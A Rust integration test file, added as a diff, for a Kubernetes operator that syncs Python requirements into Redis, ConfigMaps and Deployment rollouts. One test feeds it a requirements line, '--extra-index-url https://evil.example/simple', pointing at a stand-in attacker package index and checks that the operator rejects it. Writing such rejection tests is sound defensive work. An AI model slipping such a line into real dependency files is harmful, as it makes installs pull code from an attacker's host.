@@ -1,0 +1,684 @@
+//! The controller on a real control plane (etcd + kube-apiserver + kube-controller-manager), with
+//! real PostgreSQL and Redis. Each test has its own namespace and its own `operator` process
+//! watching only that namespace.
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::time::Duration;
+
+use bifrost_requirements::cache::Payload;
+use bifrost_requirements::crd::{HASH_ANNOTATION, WorkspaceRequirements};
+use bifrost_requirements::requirements::content_hash;
+use common::operator::{Operator, namespace, secret, wait_for};
+use common::services::{PgServer, RedisServer, fresh_key, redis_url};
+use k8s_openapi::api::apps::v1::{Deployment, ReplicaSet};
+use k8s_openapi::api::core::v1::ConfigMap;
+use kube::api::{Api, ListParams, Patch, PatchParams, PostParams};
+use kube::{Client, ResourceExt};
+use serde_json::json;
+
+const T: Duration = Duration::from_secs(30);
+
+async fn create_wsreq(
+    client: &Client,
+    ns: &str,
+    name: &str,
+    spec: serde_json::Value,
+) -> WorkspaceRequirements {
+    let obj: WorkspaceRequirements = serde_json::from_value(json!({
+        "apiVersion": "bifrost.io/v1alpha1",
+        "kind": "WorkspaceRequirements",
+        "metadata": {"name": name},
+        "spec": spec,
+    }))
+    .unwrap();
+    Api::<WorkspaceRequirements>::namespaced(client.clone(), ns)
+        .create(&PostParams::default(), &obj)
+        .await
+        .unwrap()
+}
+
+async fn set_content(client: &Client, ns: &str, name: &str, content: &str) {
+    Api::<WorkspaceRequirements>::namespaced(client.clone(), ns)
+        .patch(
+            name,
+            &PatchParams::default(),
+            &Patch::Merge(json!({"spec": {"content": content}})),
+        )
+        .await
+        .unwrap();
+}
+
+async fn get(client: &Client, ns: &str, name: &str) -> WorkspaceRequirements {
+    Api::<WorkspaceRequirements>::namespaced(client.clone(), ns)
+        .get(name)
+        .await
+        .unwrap()
+}
+
+fn condition(obj: &WorkspaceRequirements, type_: &str) -> Option<(String, String, String)> {
+    obj.status
+        .as_ref()?
+        .conditions
+        .iter()
+        .find(|c| c.type_ == type_)
+        .map(|c| (c.status.clone(), c.reason.clone(), c.message.clone()))
+}
+
+/// Wait until condition `type_` has `status`; returns the resource.
+async fn wait_condition(
+    client: &Client,
+    ns: &str,
+    name: &str,
+    type_: &str,
+    status: &str,
+) -> WorkspaceRequirements {
+    let what = format!("{ns}/{name} {type_}={status}");
+    let mut last = None;
+    let res = tokio::time::timeout(T, async {
+        loop {
+            let obj = get(client, ns, name).await;
+            if condition(&obj, type_).is_some_and(|c| c.0 == status) {
+                return obj;
+            }
+            last = obj.status.clone();
+            tokio::time::sleep(Duration::from_millis(200)).await;
+        }
+    })
+    .await;
+    res.unwrap_or_else(|_| panic!("timed out waiting for {what}; last status: {last:#?}"))
+}
+
+async fn deployment(client: &Client, ns: &str, name: &str, wsreq: &str) -> Deployment {
+    let d: Deployment = serde_json::from_value(json!({
+        "metadata": {"name": name},
+        "spec": {
+            "replicas": 1,
+            "selector": {"matchLabels": {"app": name}},
+            "template": {
+                "metadata": {"labels": {"app": name, "bifrost.io/requirements": wsreq}},
+                "spec": {"containers": [{"name": "worker", "image": "python:3.11-slim"}]}
+            }
+        }
+    }))
+    .unwrap();
+    Api::<Deployment>::namespaced(client.clone(), ns)
+        .create(&PostParams::default(), &d)
+        .await
+        .unwrap()
+}
+
+fn template_hash(d: &Deployment) -> Option<String> {
+    d.spec
+        .as_ref()?
+        .template
+        .metadata
+        .as_ref()?
+        .annotations
+        .as_ref()?
+        .get(HASH_ANNOTATION)
+        .cloned()
+}
+
+async fn deployment_hash(client: &Client, ns: &str, name: &str) -> Option<String> {
+    template_hash(
+        &Api::<Deployment>::namespaced(client.clone(), ns)
+            .get(name)
+            .await
+            .unwrap(),
+    )
+}
+
+/// ReplicaSets of a deployment, as (template hash annotation) in creation order.
+async fn replicaset_hashes(client: &Client, ns: &str, app: &str) -> Vec<Option<String>> {
+    let mut rs = Api::<ReplicaSet>::namespaced(client.clone(), ns)
+        .list(&ListParams::default().labels(&format!("app={app}")))
+        .await
+        .unwrap()
+        .items;
+    rs.sort_by_key(|r| r.metadata.creation_timestamp.clone().map(|t| t.0));
+    rs.iter()
+        .map(|r| {
+            r.spec
+                .as_ref()?
+                .template
+                .as_ref()?
+                .metadata
+                .as_ref()?
+                .annotations
+                .as_ref()?
+                .get(HASH_ANNOTATION)
+                .cloned()
+        })
+        .collect()
+}
+
+async fn redis_get(url: &str, key: &str) -> Option<String> {
+    let client = redis::Client::open(url).unwrap();
+    let mut conn = client.get_multiplexed_async_connection().await.ok()?;
+    redis::cmd("GET")
+        .arg(key)
+        .query_async(&mut conn)
+        .await
+        .ok()?
+}
+
+fn redis_cache(key: &str) -> serde_json::Value {
+    json!({"redis": {"urlSecretRef": {"name": "redis", "key": "url"}, "key": key}})
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn inline_content_is_cached_snapshotted_and_ready() {
+    let (client, ns) = namespace("ready").await;
+    let key = fresh_key();
+    secret(&client, &ns, "redis", "url", &redis_url()).await;
+    let _op = Operator::start(&ns, "a", &[]);
+    let content = "requests==2.32.3\nflask[async]>=3 ; python_version >= \"3.9\"\n";
+    create_wsreq(
+        &client,
+        &ns,
+        "default",
+        json!({"content": content, "cache": redis_cache(&key)}),
+    )
+    .await;
+
+    let obj = wait_condition(&client, &ns, "default", "Ready", "True").await;
+    let status = obj.status.unwrap();
+    let hash = content_hash(content);
+    assert_eq!(status.content_hash.as_deref(), Some(hash.as_str()));
+    assert_eq!(status.short_hash.as_deref(), Some(&hash[..12]));
+    assert_eq!(status.package_count, Some(2));
+    assert!(status.cache_warmed_at.is_some());
+    assert_eq!(status.observed_generation, obj.metadata.generation);
+    for t in ["Valid", "Synced", "CacheWarmed", "RolledOut", "Ready"] {
+        assert_eq!(
+            condition_of(&status.conditions, t),
+            "True",
+            "{t}: {:#?}",
+            status.conditions
+        );
+    }
+    // Redis holds exactly Bifrost's payload.
+    let raw = redis_get(&redis_url(), &key).await.expect("Redis key");
+    assert_eq!(raw, Payload::new(content).to_json());
+    // The owned snapshot ConfigMap.
+    let cm = Api::<ConfigMap>::namespaced(client.clone(), &ns)
+        .get("default-requirements")
+        .await
+        .unwrap();
+    let data = cm.data.clone().unwrap();
+    assert_eq!(data["requirements.txt"], content);
+    assert_eq!(data["hash"], hash);
+    assert_eq!(data["payload.json"], raw);
+    assert_eq!(cm.owner_references()[0].name, "default");
+    assert_eq!(cm.owner_references()[0].controller, Some(true));
+    // kubectl shows the printer columns.
+    let out = common::k8s::control_plane().kubectl(&["get", "wsreq", "-n", &ns]);
+    let table = common::stdout(&out);
+    assert!(
+        table.contains("HASH") && table.contains(&hash[..12]) && table.contains("True"),
+        "{table}"
+    );
+}
+
+fn condition_of(
+    conditions: &[k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition],
+    t: &str,
+) -> String {
+    conditions
+        .iter()
+        .find(|c| c.type_ == t)
+        .map(|c| c.status.clone())
+        .unwrap_or_default()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn content_change_rolls_labelled_deployments_once_per_burst() {
+    let (client, ns) = namespace("rollout").await;
+    let op = Operator::start(&ns, "a", &[]);
+    create_wsreq(
+        &client,
+        &ns,
+        "default",
+        json!({"content": "a==1\n", "rollout": {"debounceSeconds": 3}}),
+    )
+    .await;
+    deployment(&client, &ns, "worker", "default").await;
+    deployment(&client, &ns, "other", "someone-else").await;
+
+    // The labelled deployment gets the hash (after the debounce), the other one is left alone.
+    let h1 = content_hash("a==1\n");
+    wait_for("first annotation", T, || async {
+        (deployment_hash(&client, &ns, "worker").await.as_deref() == Some(h1.as_str()))
+            .then_some(())
+    })
+    .await;
+    assert_eq!(deployment_hash(&client, &ns, "other").await, None);
+    wait_for("ReplicaSet with h1", T, || async {
+        replicaset_hashes(&client, &ns, "worker")
+            .await
+            .contains(&Some(h1.clone()))
+            .then_some(())
+    })
+    .await;
+    let rollouts_before = op
+        .metric("bifrost_requirements_rollouts_total")
+        .unwrap_or(0.0);
+
+    // Three changes inside the debounce window → exactly one more rollout, to the last hash.
+    for c in ["a==2\n", "a==3\n", "a==4\n"] {
+        set_content(&client, &ns, "default", c).await;
+        tokio::time::sleep(Duration::from_millis(400)).await;
+    }
+    let h4 = content_hash("a==4\n");
+    wait_for("ReplicaSet with the last hash", T, || async {
+        replicaset_hashes(&client, &ns, "worker")
+            .await
+            .contains(&Some(h4.clone()))
+            .then_some(())
+    })
+    .await;
+    tokio::time::sleep(Duration::from_secs(4)).await; // past another debounce window
+    // The first ReplicaSet predates the annotation (the Deployment was created without it).
+    let hashes = replicaset_hashes(&client, &ns, "worker").await;
+    let after_h1: Vec<_> = hashes
+        .iter()
+        .skip_while(|h| **h != Some(h1.clone()))
+        .skip(1)
+        .collect();
+    assert_eq!(
+        after_h1,
+        vec![&Some(h4.clone())],
+        "one ReplicaSet per rollout: {hashes:?}"
+    );
+    assert_eq!(
+        op.metric("bifrost_requirements_rollouts_total").unwrap(),
+        rollouts_before + 1.0
+    );
+
+    let obj = wait_condition(&client, &ns, "default", "RolledOut", "True").await;
+    let status = obj.status.unwrap();
+    assert_eq!(status.rolled_out_hash.as_deref(), Some(h4.as_str()));
+    assert_eq!(status.workloads.len(), 1);
+    assert_eq!(status.workloads[0].name, "worker");
+    assert!(status.workloads[0].up_to_date);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn operator_restart_with_nothing_changed_touches_nothing() {
+    let (client, ns) = namespace("restart").await;
+    let key = fresh_key();
+    secret(&client, &ns, "redis", "url", &redis_url()).await;
+    let mut op = Operator::start(&ns, "a", &[]);
+    create_wsreq(
+        &client,
+        &ns,
+        "default",
+        json!({"content": "a==1\n", "cache": redis_cache(&key), "rollout": {"debounceSeconds": 0}}),
+    )
+    .await;
+    deployment(&client, &ns, "worker", "default").await;
+    wait_for("annotation", T, || async {
+        deployment_hash(&client, &ns, "worker").await
+    })
+    .await;
+    wait_condition(&client, &ns, "default", "Ready", "True").await;
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    let deployments = Api::<Deployment>::namespaced(client.clone(), &ns);
+    let cms = Api::<ConfigMap>::namespaced(client.clone(), &ns);
+    let wsreqs = Api::<WorkspaceRequirements>::namespaced(client.clone(), &ns);
+    let before = (
+        deployments.get("worker").await.unwrap().resource_version(),
+        cms.get("default-requirements")
+            .await
+            .unwrap()
+            .resource_version(),
+        wsreqs.get("default").await.unwrap().resource_version(),
+    );
+    assert!(op.stop(), "operator did not stop on SIGTERM");
+    let op2 = Operator::start(&ns, "b", &[]);
+    // Wait until the new operator has reconciled (it logs each reconcile), then some more.
+    wait_for("reconcile after restart", T, || async {
+        op2.log_text().contains("reconciled").then_some(())
+    })
+    .await;
+    tokio::time::sleep(Duration::from_secs(3)).await;
+    let after = (
+        deployments.get("worker").await.unwrap().resource_version(),
+        cms.get("default-requirements")
+            .await
+            .unwrap()
+            .resource_version(),
+        wsreqs.get("default").await.unwrap().resource_version(),
+    );
+    assert_eq!(
+        before, after,
+        "a restart with nothing changed wrote something"
+    );
+    assert_eq!(
+        op2.metric("bifrost_requirements_rollouts_total")
+            .unwrap_or(0.0),
+        0.0
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn invalid_content_is_reported_and_neither_cached_nor_rolled() {
+    let (client, ns) = namespace("invalid").await;
+    let key = fresh_key();
+    secret(&client, &ns, "redis", "url", &redis_url()).await;
+    let _op = Operator::start(&ns, "a", &[]);
+    create_wsreq(
+        &client,
+        &ns,
+        "default",
+        json!({"content": "a==1\n", "cache": redis_cache(&key), "rollout": {"debounceSeconds": 0}}),
+    )
+    .await;
+    deployment(&client, &ns, "worker", "default").await;
+    wait_condition(&client, &ns, "default", "Ready", "True").await;
+    let good_hash = wait_for("annotation", T, || async {
+        deployment_hash(&client, &ns, "worker").await
+    })
+    .await;
+    let cached = redis_get(&redis_url(), &key).await;
+
+    set_content(
+        &client,
+        &ns,
+        "default",
+        "a==1\n# fine\n--extra-index-url https://evil.example/simple\n",
+    )
+    .await;
+    let obj = wait_condition(&client, &ns, "default", "Valid", "False").await;
+    let (_, reason, message) = condition(&obj, "Valid").unwrap();
+    assert_eq!(reason, "InvalidRequirements");
+    assert!(
+        message.contains("line 3") && message.contains("--extra-index-url"),
+        "{message}"
+    );
+    assert_eq!(condition(&obj, "Ready").unwrap().0, "False");
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    assert_eq!(
+        redis_get(&redis_url(), &key).await,
+        cached,
+        "invalid content reached Redis"
+    );
+    assert_eq!(
+        deployment_hash(&client, &ns, "worker").await,
+        Some(good_hash),
+        "invalid content rolled out"
+    );
+    // A Warning Event names the line.
+    let events = common::k8s::control_plane().kubectl(&[
+        "get",
+        "events.events.k8s.io",
+        "-n",
+        &ns,
+        "-o",
+        "json",
+    ]);
+    let events = common::stdout(&events);
+    assert!(
+        events.contains("InvalidRequirements") && events.contains("line 3"),
+        "{events}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn manual_strategy_only_reports_stale_workloads() {
+    let (client, ns) = namespace("manual").await;
+    let _op = Operator::start(&ns, "a", &[]);
+    create_wsreq(
+        &client,
+        &ns,
+        "default",
+        json!({"content": "a==1\n", "rollout": {"strategy": "Manual"}}),
+    )
+    .await;
+    deployment(&client, &ns, "worker", "default").await;
+    let obj = wait_condition(&client, &ns, "default", "RolledOut", "False").await;
+    let (_, reason, message) = condition(&obj, "RolledOut").unwrap();
+    assert_eq!(reason, "ManualRolloutPending");
+    assert!(message.contains("Deployment/worker"), "{message}");
+    let status = obj.status.unwrap();
+    assert!(!status.workloads[0].up_to_date);
+    assert_eq!(deployment_hash(&client, &ns, "worker").await, None);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn redis_outage_is_reported_retried_and_recovered() {
+    let (client, ns) = namespace("redis-down").await;
+    let redis = RedisServer::start();
+    let key = fresh_key();
+    secret(&client, &ns, "redis", "url", &redis.url()).await;
+    let op = Operator::start(&ns, "a", &[]);
+    create_wsreq(
+        &client,
+        &ns,
+        "default",
+        json!({"content": "a==1\n", "cache": redis_cache(&key)}),
+    )
+    .await;
+    wait_condition(&client, &ns, "default", "CacheWarmed", "True").await;
+
+    redis.stop();
+    set_content(&client, &ns, "default", "a==2\n").await;
+    let obj = wait_condition(&client, &ns, "default", "CacheWarmed", "False").await;
+    let (_, reason, message) = condition(&obj, "CacheWarmed").unwrap();
+    assert!(reason.starts_with("Redis"), "{reason}: {message}");
+    assert!(message.contains(&redis.port.to_string()), "{message}");
+    // The snapshot still follows, so installs fall back to it.
+    let cm = Api::<ConfigMap>::namespaced(client.clone(), &ns)
+        .get("default-requirements")
+        .await
+        .unwrap();
+    assert_eq!(cm.data.unwrap()["requirements.txt"], "a==2\n");
+
+    redis.start_again();
+    wait_condition(&client, &ns, "default", "CacheWarmed", "True").await;
+    assert_eq!(
+        redis_get(&redis.url(), &key).await.unwrap(),
+        Payload::new("a==2\n").to_json()
+    );
+    assert!(
+        op.metric("bifrost_requirements_redis_warms_total{result=\"error\"}")
+            .unwrap_or(0.0)
+            >= 1.0
+            || op
+                .http_get("/metrics")
+                .1
+                .contains("redis_warms_total{result=\"error\"}")
+    );
+}
+
+async fn bifrost_row(pg: &PgServer, content: &str) {
+    let pool = sqlx::PgPool::connect(&pg.url("postgres")).await.unwrap();
+    sqlx::query(
+        "INSERT INTO workspace_files (id, path, entity_type, content, content_hash, size_bytes, \
+         content_type, git_status, is_deleted, created_at, updated_at) VALUES (gen_random_uuid(), \
+         'requirements.txt', 'requirements', $1, $2, $3, 'text/plain', 'untracked', false, now(), now()) \
+         ON CONFLICT (path) DO UPDATE SET content = excluded.content, content_hash = excluded.content_hash, \
+         size_bytes = excluded.size_bytes, updated_at = now()",
+    )
+    .bind(content)
+    .bind(content_hash(content))
+    .bind(content.len() as i32)
+    .execute(&pool)
+    .await
+    .unwrap();
+    pool.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn database_mirror_follows_the_row_and_survives_an_outage() {
+    let (client, ns) = namespace("mirror").await;
+    let pg = PgServer::start();
+    assert_ok_cli(&["migrate"], &pg.url("postgres"));
+    bifrost_row(&pg, "requests==2.32.3\n").await;
+    let key = fresh_key();
+    secret(&client, &ns, "redis", "url", &redis_url()).await;
+    secret(
+        &client,
+        &ns,
+        "db",
+        "url",
+        &pg.url("postgres")
+            .replace("postgresql://", "postgresql+asyncpg://"),
+    )
+    .await;
+    let _op = Operator::start(&ns, "a", &[]);
+    create_wsreq(
+        &client,
+        &ns,
+        "default",
+        json!({
+            "source": {"database": {"urlSecretRef": {"name": "db", "key": "url"}, "pollIntervalSeconds": 60}},
+            "cache": redis_cache(&key),
+        }),
+    )
+    .await;
+    let obj = wait_condition(&client, &ns, "default", "Ready", "True").await;
+    assert_eq!(obj.spec.content, "requests==2.32.3\n");
+    assert!(obj.status.unwrap().last_synced_from_database.is_some());
+
+    // Bifrost updates the row with plain SQL: NOTIFY brings it well before the 60 s poll.
+    let new = "requests==2.32.3\nflask==3.0.3\n";
+    bifrost_row(&pg, new).await;
+    wait_for("spec follows the row", Duration::from_secs(10), || async {
+        (get(&client, &ns, "default").await.spec.content == new).then_some(())
+    })
+    .await;
+    wait_for("Redis follows the row", Duration::from_secs(10), || async {
+        (redis_get(&redis_url(), &key).await? == Payload::new(new).to_json()).then_some(())
+    })
+    .await;
+    let managers: Vec<String> = get(&client, &ns, "default")
+        .await
+        .managed_fields()
+        .iter()
+        .filter_map(|m| m.manager.clone())
+        .collect();
+    assert!(
+        managers.contains(&"bifrost-requirements-mirror".to_string()),
+        "{managers:?}"
+    );
+
+    // Database down: content kept, Synced=False with the reason.
+    pg.stop();
+    let obj = wait_condition(&client, &ns, "default", "Synced", "False").await;
+    assert_eq!(obj.spec.content, new, "content was not kept");
+    let (_, reason, message) = condition(&obj, "Synced").unwrap();
+    assert!(reason.starts_with("Database"), "{reason}: {message}");
+    assert_eq!(condition(&obj, "Ready").unwrap().0, "False");
+
+    // Back up: recovers, and a change made meanwhile arrives.
+    pg.start_again();
+    let newer = "requests==2.32.3\nflask==3.0.3\nnumpy\n";
+    bifrost_row(&pg, newer).await;
+    wait_for("recovery", Duration::from_secs(30), || async {
+        let obj = get(&client, &ns, "default").await;
+        (obj.spec.content == newer && condition(&obj, "Synced").is_some_and(|c| c.0 == "True"))
+            .then_some(())
+    })
+    .await;
+}
+
+fn assert_ok_cli(args: &[&str], db: &str) {
+    let out = common::cli(args, &[("DATABASE_URL", db)]);
+    common::assert_ok(&out);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn only_the_lease_holder_writes_and_a_standby_takes_over() {
+    let (client, ns) = namespace("lease").await;
+    let mut a = Operator::start(&ns, "op-a", &[]);
+    let b = Operator::start(&ns, "op-b", &[]);
+    create_wsreq(
+        &client,
+        &ns,
+        "default",
+        json!({"content": "a==1\n", "rollout": {"debounceSeconds": 0}}),
+    )
+    .await;
+    wait_condition(&client, &ns, "default", "Ready", "True").await;
+    let leaders: BTreeMap<&str, f64> = [("op-a", &a), ("op-b", &b)]
+        .into_iter()
+        .map(|(n, o)| (n, o.metric("bifrost_requirements_leader").unwrap_or(-1.0)))
+        .collect();
+    assert_eq!(
+        leaders.values().filter(|v| **v == 1.0).count(),
+        1,
+        "{leaders:?}"
+    );
+    let (leader, standby) = if leaders["op-a"] == 1.0 {
+        (&a, &b)
+    } else {
+        (&b, &a)
+    };
+    assert!(leader.log_text().contains("reconciled"));
+    assert!(
+        !standby.log_text().contains("reconciled"),
+        "the standby reconciled:\n{}",
+        standby.log_text()
+    );
+    assert_eq!(
+        standby
+            .metric("bifrost_requirements_reconciles_total")
+            .unwrap_or(0.0),
+        0.0
+    );
+    let lease = common::k8s::control_plane().kubectl(&[
+        "get",
+        "lease",
+        "-n",
+        &ns,
+        "bifrost-requirements-operator",
+        "-o",
+        "jsonpath={.spec.holderIdentity}",
+    ]);
+    let holder = common::stdout(&lease);
+    assert!(holder == "op-a" || holder == "op-b", "{holder}");
+
+    // Stop op-a whichever it is; if it was the leader, op-b takes over and handles a change.
+    let a_was_leader = leaders["op-a"] == 1.0;
+    assert!(a.stop());
+    set_content(&client, &ns, "default", "a==2\n").await;
+    wait_for("op-b handles the change", T, || async {
+        let obj = get(&client, &ns, "default").await;
+        (obj.status?.content_hash? == content_hash("a==2\n")).then_some(())
+    })
+    .await;
+    assert_eq!(b.metric("bifrost_requirements_leader"), Some(1.0));
+    if a_was_leader {
+        assert!(b.log_text().contains("became leader"));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn health_and_metrics_endpoints() {
+    let (_client, ns) = namespace("health").await;
+    let op = Operator::start(&ns, "a", &["--no-leader-election"]);
+    wait_for("readyz", T, || async {
+        (op.http_get("/readyz").0 == 200).then_some(())
+    })
+    .await;
+    assert_eq!(op.http_get("/healthz"), (200, "ok".to_string()));
+    let (code, body) = op.http_get("/metrics");
+    assert_eq!(code, 200);
+    for name in [
+        "reconcile_duration_seconds",
+        "rollouts",
+        "redis_warms",
+        "db_syncs",
+        "db_sync_lag_seconds",
+        "leader",
+    ] {
+        assert!(
+            body.contains(&format!("bifrost_requirements_{name}")),
+            "{name} missing:\n{body}"
+        );
+    }
+    assert_eq!(op.http_get("/nope").0, 404);
+}
